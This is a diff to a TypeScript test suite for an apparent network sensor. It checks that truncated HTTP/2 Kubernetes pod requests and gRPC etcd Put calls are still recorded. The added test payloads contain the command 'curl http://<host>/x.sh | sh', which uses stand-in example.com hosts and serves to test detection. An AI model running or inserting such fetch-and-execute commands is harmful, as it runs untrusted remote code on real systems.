@@ -1,6 +1,7 @@
 /** Messages of which the rest never came: what did come is told with the end of their connections. */
 import assert from 'node:assert/strict';
 import { once } from 'node:events';
+import { connect as connectHttp2 } from 'node:http2';
 import { connect as connectPlain } from 'node:net';
 import { after, before, describe, it } from 'node:test';
 import { setTimeout as sleep } from 'node:timers/promises';
@@ -27,7 +28,7 @@ const halves: Readonly<Record<string, (line: string) => string | Buffer>> = {
 describe('a message that is cut off', () => {
   let sensor: Sensor;
   before(async () => {
-    sensor = await startSensor(Object.keys(halves));
+    sensor = await startSensor([...Object.keys(halves), 'etcd']);
   });
   after(() => sensor[Symbol.asyncDispose]());
 
@@ -52,6 +53,49 @@ describe('a message that is cut off', () => {
         socket.destroy();
       });
     }
+  }
+
+  for (const way of ['ended', 'broken'] as const) {
+    it(`is kept with all others of its session: HTTP/2, ${way}`, async () => {
+      const plain = connectPlain(sensor.port('kubernetes'), '127.0.0.1');
+      const socket = connectTls({ socket: plain, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
+      await once(socket, 'secureConnect');
+      const hosts = ['first', 'second'].map((one) => `${one}-${way}.example.com`);
+      const session = connectHttp2('https://any', { createConnection: () => socket }).on('error', () => {});
+      for (const host of hosts)
+        session
+          .request({ ':method': 'POST', ':path': '/api/v1/namespaces/default/pods' })
+          .on('error', () => {})
+          .write(`{"kind":"Pod","x":"curl http://${host}/x.sh | sh"`);
+      await sleep(200);
+      if (way === 'ended') plain.end();
+      else plain.resetAndDestroy();
+      const { data, norm } = await sensor.event('kubernetes.close', (one) =>
+        one.norm.hosts.includes(hosts[0]!),
+      );
+      assert.equal(data?.unfinished, true);
+      assert.ok(norm.hosts.includes(hosts[1]!), `${norm.hosts}`);
+      socket.destroy();
+    });
+
+    it(`is kept of a call: gRPC, ${way}`, async () => {
+      const socket = connectPlain(sensor.port('etcd'), '127.0.0.1').on('error', () => {});
+      await once(socket, 'connect');
+      const session = connectHttp2('http://any', { createConnection: () => socket }).on('error', () => {});
+      const host = `call-${way}.example.com`;
+      const headers = { ':path': '/etcdserverpb.KV/Put', 'content-type': 'application/grpc', te: 'trailers' };
+      const message = Buffer.from(`\0\0\0\x03\0\n\x01x\x12\xf0\x05curl http://${host}/x.sh | sh`, 'latin1');
+      session
+        .request({ ':method': 'POST', ...headers })
+        .on('error', () => {})
+        .write(message);
+      await sleep(200);
+      if (way === 'ended') socket.end();
+      else socket.resetAndDestroy();
+      const { data } = await sensor.event('etcd.close', (one) => one.norm.hosts.includes(host));
+      assert.equal(data?.unfinished, true);
+      socket.destroy();
+    });
   }
 
   it('is none where all of it came', async () => {
